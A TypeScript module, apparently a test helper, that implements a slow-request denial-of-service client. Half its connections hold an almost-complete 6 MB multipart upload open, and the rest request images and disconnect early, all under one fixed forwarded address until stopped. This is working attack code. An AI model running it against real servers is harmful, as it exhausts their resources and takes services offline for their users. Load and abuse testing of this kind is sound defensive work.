import { once } from 'node:events';
import { request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';

/** A client with bad intentions, from one address. */
const address = '203.0.113.66';

/** Bytes: as much as a form with a picture may have. */
const announced = 6 * 1_024 * 1_024;

/**
 * Opens `connections` until `ending`: half of them send all of a form with a picture but its last
 * byte, the others ask for pictures and disconnect a moment later, and again.
 */
export async function attackSlowly(
  origin: string,
  options: { connections: number; nextPicture: () => string; ending: AbortSignal },
): Promise<void> {
  const { connections, nextPicture, ending } = options;
  const clients = Array.from({ length: connections }, async (_, index) => {
    while (!ending.aborted) {
      if (index % 2) await stall(origin, ending);
      else await leaveEarly(origin + nextPicture());
    }
  });
  await Promise.all(clients);
}

async function stall(origin: string, ending: AbortSignal): Promise<void> {
  const { hostname, port } = new URL(origin);
  const socket = connect(Number(port), hostname);
  const closed = once(socket, 'close').catch(() => undefined);
  socket.on('error', () => undefined).resume();
  const end = () => socket.destroy();
  ending.addEventListener('abort', end);
  socket.write(
    `POST /account/details HTTP/1.1\r\nHost: ${hostname}:${port}\r\nX-Forwarded-For: ${address}\r\n` +
      `Content-Type: multipart/form-data; boundary=x\r\nContent-Length: ${announced}\r\n\r\n`,
  );
  socket.write(Buffer.alloc(announced - 1, 'x'));
  await closed;
  ending.removeEventListener('abort', end);
  if (!ending.aborted) await wait(5_000);
}

async function leaveEarly(url: string): Promise<void> {
  const headers = { 'x-forwarded-for': address, accept: 'image/avif' };
  const asked = request(url, { headers, agent: false });
  asked.on('error', () => undefined).on('response', (answer) => answer.resume());
  asked.end();
  await wait(1_000);
  asked.destroy();
}
